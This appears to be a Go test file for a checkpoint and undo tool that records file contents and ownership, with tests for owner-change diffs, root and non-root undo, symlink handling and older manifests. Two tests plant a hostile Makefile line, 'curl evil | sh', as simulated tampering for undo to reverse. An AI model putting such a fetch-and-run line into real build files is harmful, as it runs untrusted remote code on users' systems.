//go:build unix

package checkpoint

import (
	"bytes"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
)

// The person's uid in these tests, and another user's (31-ipatk17m: root's
// mcp server gave the person's Makefile to sentinel-ci).
const (
	personID = 4321
	otherID  = 4322
)

func needRoot(t *testing.T) {
	t.Helper()
	if os.Geteuid() != 0 {
		t.Skip("needs root to give files away")
	}
}

func ownerOf(t *testing.T, p string) (uint32, uint32) {
	t.Helper()
	st, err := os.Lstat(p)
	must(t, err)
	sys := st.Sys().(*syscall.Stat_t)
	return sys.Uid, sys.Gid
}

// ownedPlace is a place of the person's: a Makefile, a directory, a
// symlink (to a file of root's outside the place) and the top.
func ownedPlace(t *testing.T) (root, outside string) {
	root = t.TempDir()
	write(t, root, "Makefile", "all:\n\techo hi\n", 0o644)
	write(t, root, "src/a.c", "int a;\n", 0o644)
	outside = filepath.Join(t.TempDir(), "target")
	write(t, filepath.Dir(outside), "target", "root's\n", 0o644)
	must(t, os.Symlink(outside, filepath.Join(root, "link")))
	for _, p := range []string{".", "Makefile", "src", "src/a.c", "link"} {
		must(t, os.Lchown(filepath.Join(root, p), personID, personID))
	}
	return root, outside
}

// An owner-only change (a chown in place) is in the diff, one line a
// path that names both owners; a content change that gave the file away
// too says so on its line.
func TestOwnerOnlyChangeIsInTheDiff(t *testing.T) {
	needRoot(t)
	root, _ := ownedPlace(t)
	s := newStore(t, root)
	before := take(t, s, root, Options{})
	for _, p := range []string{"Makefile", "src", "link"} {
		must(t, os.Lchown(filepath.Join(root, p), otherID, personID))
	}
	write(t, root, "src/a.c", "int b;\n", 0o644)
	must(t, os.Chown(filepath.Join(root, "src/a.c"), personID, otherID))
	after := take(t, s, root, Options{Prev: before})
	got := map[string]Change{}
	for _, c := range Diff(before, after) {
		got[c.Path] = c
	}
	for _, p := range []string{"Makefile", "src", "link"} {
		c, ok := got[p]
		if !ok || c.What != OwnerOnly {
			t.Fatalf("%s: %+v, want an owner change (all: %v)", p, c, got)
		}
		if l := c.Line(); !strings.HasPrefix(l, "owner 4321:4321→4322:4321 ") {
			t.Errorf("%s: line %q", p, l)
		}
	}
	if c := got["src/a.c"]; c.What != Modified || !strings.HasSuffix(c.Line(), " (owner 4321:4321→4321:4322)") {
		t.Errorf("src/a.c: %q, want M with the owner change", c.Line())
	}
}

// Undo as root gives each path its owner back, a link's with lchown:
// the file outside the place the link names keeps root's.
func TestUndoGivesBackAnOwnerOnlyChange(t *testing.T) {
	needRoot(t)
	root, outside := ownedPlace(t)
	s := newStore(t, root)
	before := take(t, s, root, Options{})
	for _, p := range []string{".", "Makefile", "src", "link"} {
		must(t, os.Lchown(filepath.Join(root, p), otherID, otherID))
	}
	after := take(t, s, root, Options{Prev: before})
	plan := PlanUndo(before, after, after)
	var lines []string
	for _, st := range plan.Steps {
		lines = append(lines, st.Line())
	}
	if want := "chown 4321:4321 Makefile"; !strings.Contains(strings.Join(lines, "\n"), want) {
		t.Errorf("plan %q, want %q", lines, want)
	}
	applied, err := Apply(s, root, plan)
	must(t, err)
	if len(applied.Owners) > 0 {
		t.Errorf("as root: %q", applied.Owners)
	}
	for _, p := range []string{".", "Makefile", "src", "link"} {
		if u, g := ownerOf(t, filepath.Join(root, p)); u != personID || g != personID {
			t.Errorf("%s: owner %d:%d after undo, want %d:%d", p, u, g, personID, personID)
		}
	}
	if u, _ := ownerOf(t, outside); u != 0 {
		t.Errorf("the link's target outside the place was given to %d", u)
	}
	if b, err := os.ReadFile(filepath.Join(root, "Makefile")); err != nil || string(b) != "all:\n\techo hi\n" {
		t.Errorf("Makefile: %q %v", b, err)
	}
}

// oldManifest is m as saved before Sentinel recorded owners: no u, g or
// owners fields.
func oldManifest(t *testing.T, m *Manifest) *Manifest {
	t.Helper()
	b, err := encodeManifest(m)
	must(t, err)
	var raw map[string]any
	must(t, json.Unmarshal(b, &raw))
	delete(raw, "owners")
	strip := func(e any) {
		delete(e.(map[string]any), "u")
		delete(e.(map[string]any), "g")
	}
	for _, e := range raw["entries"].([]any) {
		strip(e)
	}
	strip(raw["top"])
	b, err = json.Marshal(raw)
	must(t, err)
	if bytes.Contains(b, []byte(`"u":`)) {
		t.Fatal("owners left in the old manifest")
	}
	old, err := decodeManifest(b)
	must(t, err)
	return old
}

// A manifest saved before owners were recorded reads every owner as
// root's: it still undoes, and owners are left as they are — not compared,
// and not handed to root.
func TestOldManifestWithoutOwnersUndoesOwnersUntouched(t *testing.T) {
	needRoot(t)
	root, _ := ownedPlace(t)
	s := newStore(t, root)
	before := oldManifest(t, take(t, s, root, Options{}))
	write(t, root, "Makefile", "all:\n\tcurl evil | sh\n", 0o644)
	must(t, os.Lchown(filepath.Join(root, "src"), otherID, otherID))
	after := take(t, s, root, Options{Prev: before})
	for _, c := range Diff(before, after) {
		if c.Path != "Makefile" {
			t.Errorf("an old manifest compared by owner: %s", c.Line())
		}
	}
	plan := PlanUndo(before, after, after)
	if _, err := Apply(s, root, plan); err != nil {
		t.Fatal(err)
	}
	if b, _ := os.ReadFile(filepath.Join(root, "Makefile")); string(b) != "all:\n\techo hi\n" {
		t.Errorf("Makefile not put back: %q", b)
	}
	if u, g := ownerOf(t, filepath.Join(root, "Makefile")); u != personID || g != personID {
		t.Errorf("Makefile given to %d:%d by undo of an old manifest, want it left the person's", u, g)
	}
}

// A saved and read manifest keeps knowing its owners; one of the days
// before the owners field (a non-root owner written) is read as
// recording them.
func TestSavedManifestComparesOwners(t *testing.T) {
	needRoot(t)
	root, _ := ownedPlace(t)
	s := newStore(t, root)
	m := take(t, s, root, Options{})
	must(t, s.SaveManifest("r1", "before", m))
	saved, err := s.Manifest("r1", "before")
	must(t, err)
	b, err := encodeManifest(m)
	must(t, err)
	noField, err := decodeManifest(bytes.Replace(b, []byte(`"owners":true`), []byte(`"owners":false`), 1))
	must(t, err)
	must(t, os.Lchown(filepath.Join(root, "Makefile"), otherID, personID))
	after := take(t, s, root, Options{Prev: m})
	for name, before := range map[string]*Manifest{"saved": saved, "without the field": noField} {
		d := Diff(before, after)
		if len(d) != 1 || d[0].What != OwnerOnly || d[0].Path != "Makefile" {
			t.Errorf("%s: %v, want Makefile's owner change", name, d)
		}
	}
}

// Undo that is not root cannot give a file back to another user: it says
// so, one line a path, in the plan (dry run) and in what it did, rather
// than leave the owner changed silently.
func TestUndoNotRootSaysTheOwnerIsNotBack(t *testing.T) {
	needRoot(t) // to give the file away first
	root, _ := ownedPlace(t)
	s := newStore(t, root)
	before := take(t, s, root, Options{})
	write(t, root, "Makefile", "all:\n\tcurl evil | sh\n", 0o644)
	must(t, os.Chown(filepath.Join(root, "Makefile"), personID, personID))
	after := take(t, s, root, Options{Prev: before})
	wasRoot, wasEUID := asRoot, euid
	asRoot, euid = false, 0 // undo as a user that is neither root nor the person
	t.Cleanup(func() { asRoot, euid = wasRoot, wasEUID })
	plan := PlanUndo(before, after, after)
	if len(plan.Steps) != 1 || !strings.Contains(plan.Steps[0].Line(), "only root can give back") {
		t.Fatalf("plan: %+v, want one step that says its owner cannot be given back", plan.Steps)
	}
	applied, err := Apply(s, root, plan)
	must(t, err)
	if len(applied.Owners) != 1 || !strings.HasPrefix(applied.Owners[0], "Makefile: its owner was 4321:4321 and is 0:0 now") &&
		!strings.HasPrefix(applied.Owners[0], "Makefile: its owner was 4321:4321 and is root(0):root(0) now") {
		t.Errorf("owners: %q, want one line for Makefile", applied.Owners)
	}
}
